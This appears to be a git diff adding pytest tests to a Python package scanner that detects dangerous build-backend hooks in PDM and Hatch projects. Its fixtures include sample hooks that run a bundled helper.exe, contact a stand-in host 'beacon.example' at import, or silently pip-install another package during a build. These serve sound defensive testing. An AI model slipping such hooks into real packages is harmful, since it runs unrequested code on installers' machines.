@@ -17,11 +17,13 @@ import pytest
 from caplet._scan._installer_imports import (
     MAX_INSTALLER_MODULES,
     build_backends,
+    build_hooks,
     command_modules,
     installer_modules,
 )
 from caplet._scan._model import ScanMode
 from caplet._scan._scanner import scan_tree
+from tests._scan.prefilterkit import tree_both_ways
 from tests._scan.scankit import SETUP, package_danger, write_tree
 
 _PAYLOAD = """\
@@ -327,3 +329,148 @@ def test_a_setup_py_whose_parse_warns_still_has_its_imports_followed(tmp_path: P
         "_helper.py": _PAYLOAD,
     }
     assert ("CPL-THR-019", "_helper.py") in package_danger(write_tree(tmp_path, files))
+
+
+#: recall16 (blind15's b15-ls-pdm-build-hook, -hatch-build-hook): a build backend's hook
+#: file runs while pip builds, as a setuptools command does: a pip install, a shipped
+#: program started and network at its module level in it are the installer's. All were a
+#: module's on main, clean.
+_PDM_HOOK = """\
+import os
+import subprocess
+
+
+def pdm_build_initialize(context):
+    subprocess.Popen([os.path.join(os.path.dirname(__file__), "tools", "helper.exe")])
+"""
+_HOOK_MODULE_NETWORK = """\
+import urllib.request
+
+urllib.request.urlopen("https://beacon.example/b").read()
+
+
+def pdm_build_initialize(context):
+    pass
+"""
+_HATCH_PIP = """\
+import subprocess
+import sys
+
+from hatchling.builders.hooks.plugin.interface import BuildHookInterface
+
+
+class CustomBuildHook(BuildHookInterface):
+    def initialize(self, version, build_data):
+        subprocess.call([sys.executable, "-m", "pip", "install", "colour-extras-native"])
+"""
+_PDM = '[build-system]\nrequires = ["pdm-backend"]\nbuild-backend = "pdm.backend"\n'
+_HATCH = '[build-system]\nrequires = ["hatchling"]\nbuild-backend = "hatchling.build"\n'
+
+
+@pytest.mark.parametrize(
+    ("files", "expected"),
+    [
+        (
+            {"pyproject.toml": _PDM, "pdm_build.py": _PDM_HOOK},
+            ("CPL-THR-018", "pdm_build.py"),
+        ),
+        (
+            {
+                "pyproject.toml": _PDM + '[tool.pdm.build]\ncustom-hook = "build/hook.py"\n',
+                "build/hook.py": _HOOK_MODULE_NETWORK,
+            },
+            ("CPL-THR-011", "build/hook.py"),
+        ),
+        (
+            {
+                "pyproject.toml": _HATCH + "[tool.hatch.build.hooks.custom]\n",
+                "hatch_build.py": _HATCH_PIP,
+            },
+            ("CPL-THR-019", "hatch_build.py"),
+        ),
+        (
+            {
+                "pyproject.toml": _HATCH
+                + '[tool.hatch.build.targets.wheel.hooks.custom]\npath = "tools/hooks.py"\n',
+                "tools/hooks.py": _HATCH_PIP,
+            },
+            ("CPL-THR-019", "tools/hooks.py"),
+        ),
+        (
+            {
+                "pyproject.toml": _HATCH + "[tool.hatch.metadata.hooks.custom]\n",
+                "hatch_build.py": _HATCH_PIP,
+            },
+            ("CPL-THR-019", "hatch_build.py"),
+        ),
+    ],
+)
+def test_a_build_backends_hook_file_is_the_installers(
+    tmp_path: Path,
+    monkeypatch: pytest.MonkeyPatch,
+    files: dict[str, str],
+    expected: tuple[str, str],
+) -> None:
+    root = write_tree(tmp_path / "tree", files)
+    assert expected in package_danger(root)
+    assert expected in package_danger(_sdist(root, tmp_path / "pkg-1.0.tar.gz"))
+    filtered, whole = tree_both_ways(root, monkeypatch)
+    assert filtered == whole
+
+
+@pytest.mark.parametrize(
+    "files",
+    [
+        # pdm_build.py under another backend: nothing calls its hooks
+        {"pyproject.toml": _HATCH, "pdm_build.py": _PDM_HOOK},
+        # hatch_build.py that no hooks table names: hatchling never loads it
+        {"pyproject.toml": _HATCH, "hatch_build.py": _HATCH_PIP},
+        # a hook outside the tree is no file of it
+        {
+            "pyproject.toml": _HATCH + '[tool.hatch.build.hooks.custom]\npath = "../h.py"\n',
+            "hatch_build.py": _HATCH_PIP,
+        },
+    ],
+)
+def test_a_hook_file_no_backend_calls_stays_a_module(tmp_path: Path, files: dict[str, str]) -> None:
+    assert package_danger(write_tree(tmp_path, files)) == set()
+
+
+@pytest.mark.parametrize(
+    "hook",
+    [
+        # a front end built with npm, as jupyterlab extensions build theirs
+        "import subprocess\n"
+        "from hatchling.builders.hooks.plugin.interface import BuildHookInterface\n\n"
+        "class CustomBuildHook(BuildHookInterface):\n"
+        "    def initialize(self, version, build_data):\n"
+        "        subprocess.run(['npm', 'ci'], check=True, cwd='js')\n"
+        "        subprocess.run(['npm', 'run', 'build'], check=True, cwd='js')\n",
+        # nbconvert's hook: stylesheets fetched into the package's tree when they are missing
+        "import os, urllib.request\n"
+        "from hatchling.builders.hooks.plugin.interface import BuildHookInterface\n\n"
+        "def _fetch(url, dest):\n"
+        "    if not os.path.exists(dest):\n"
+        "        open(dest, 'wb').write(urllib.request.urlopen(url).read())\n\n"
+        "class CustomHook(BuildHookInterface):\n"
+        "    def initialize(self, version, build_data):\n"
+        "        _fetch('https://unpkg.com/@jupyterlab/nbconvert-css/style/index.css', 'x.css')\n",
+        # a version file written from git's description
+        "import subprocess\n\ndef pdm_build_initialize(context):\n"
+        "    out = subprocess.check_output(['git', 'describe', '--tags'], text=True)\n"
+        "    open('src/colour/_version.py', 'w').write(f'__version__ = {out.strip()!r}\\n')\n",
+    ],
+)
+def test_a_hook_that_builds_the_package_is_clean(tmp_path: Path, hook: str) -> None:
+    config = _PDM if "pdm_build" in hook else _HATCH + "[tool.hatch.build.hooks.custom]\n"
+    name = "pdm_build.py" if "pdm_build" in hook else "hatch_build.py"
+    assert package_danger(write_tree(tmp_path, {"pyproject.toml": config, name: hook})) == set()
+
+
+def test_a_broken_pyproject_names_no_hook() -> None:
+    present = {"pyproject.toml", "pdm_build.py", "hatch_build.py"}
+    assert build_hooks(present, {"pyproject.toml": _PDM + "[tool\n"}.get) == set()
+    assert (
+        build_hooks(present, {"pyproject.toml": "[tool.hatch.build.hooks]\ncustom = 1\n"}.get)
+        == set()
+    )
